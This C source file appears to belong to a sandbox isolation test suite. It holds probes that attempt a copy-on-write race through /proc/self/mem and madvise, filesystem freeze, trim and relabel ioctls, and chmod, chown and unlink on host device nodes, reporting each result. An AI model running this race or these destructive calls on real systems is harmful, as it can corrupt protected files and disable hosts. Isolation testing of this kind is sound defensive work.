/* SPDX-License-Identifier: Apache-2.0 */
/* Filesystem isolation, part three: the shared page cache, whole-filesystem calls, device nodes (A035, A053). */
#include "probe.h"

#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <linux/fs.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/time.h>
#include <time.h>
#include <unistd.h>

struct race {
	char *map;
	int memory_fd;
	volatile int over;
};

static void *discard_pages(void *arg)
{
	struct race *race = arg;

	while (!race->over)
		madvise(race->map, 4096, MADV_DONTNEED);
	return NULL;
}

/* A private mapping of a file written past its protection while its pages are thrown away: the old race. */
int attack_cow_race(int argc, char **argv)
{
	int fd = argc > 0 ? open(argv[0], O_RDONLY | O_CLOEXEC) : -1;
	struct race race = { .memory_fd = open("/proc/self/mem", O_RDWR | O_CLOEXEC) };
	time_t end = time(NULL) + 1;
	pthread_t thread;
	long writes = 0;

	race.map = fd < 0 ? MAP_FAILED : mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
	if (race.map == MAP_FAILED || pthread_create(&thread, NULL, discard_pages, &race) != 0)
		return 2;
	while (time(NULL) <= end)
		if (pwrite(race.memory_fd, "attacked", 8, (off_t)(uintptr_t)race.map) == 8)
			writes++;
	race.over = 1;
	pthread_join(thread, NULL);
	report_text("writes", "%ld", writes);
	report("shared-write",
	       mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0) == MAP_FAILED ? -1 : 0);
	report("protect", mprotect(mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0), 4096,
				   PROT_READ | PROT_WRITE));
	return 0;
}

/* Calls on a whole filesystem by way of a file on it; behind the tripwire, since FIFREEZE would stop the machine. */
int attack_filesystem(int argc, char **argv)
{
	struct fstrim_range range = { .len = UINT64_MAX };
	struct fsxattr attributes = { .fsx_xflags = FS_XFLAG_IMMUTABLE };
	char label[FSLABEL_MAX] = "attacked";
	int version = 7, flags = FS_APPEND_FL, fd;

	if (argc < 5 || !tripwire_allows(argc, argv))
		return 3;
	fd = open(argv[4], O_RDONLY | O_CLOEXEC);
	report("open", fd);
	report("freeze", ioctl(fd, FIFREEZE, 0));
	report("thaw", ioctl(fd, FITHAW, 0));
	report("trim", ioctl(fd, FITRIM, &range));
	report("label", ioctl(fd, FS_IOC_SETFSLABEL, label));
	report("fsxattr", ioctl(fd, FS_IOC_FSSETXATTR, &attributes));
	report("version", ioctl(fd, FS_IOC_SETVERSION, &version));
	report("append", ioctl(fd, FS_IOC_SETFLAGS, &flags));
	return 0;
}

/* The few device nodes inside are the host's own: their metadata must stay. */
int attack_device_metadata(int argc, char **argv)
{
	static const char *const names[] = { "null", "zero", "full", "random", "urandom", "tty" };
	const struct timeval times[2] = { { 1, 0 }, { 1, 0 } };
	char path[64];

	(void)argc;
	(void)argv;
	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
		int fd;

		snprintf(path, sizeof(path), "/dev/%s", names[i]);
		fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
		report("utimes", utimes(path, times));
		report("chmod", chmod(path, 0600));
		report("chown", chown(path, geteuid(), getegid()));
		report("futimens", fd < 0 ? -1 : futimens(fd, NULL));
		report("fchmod", fd < 0 ? -1 : fchmod(fd, 0600));
		report("unlink", unlink(path));
	}
	return 0;
}
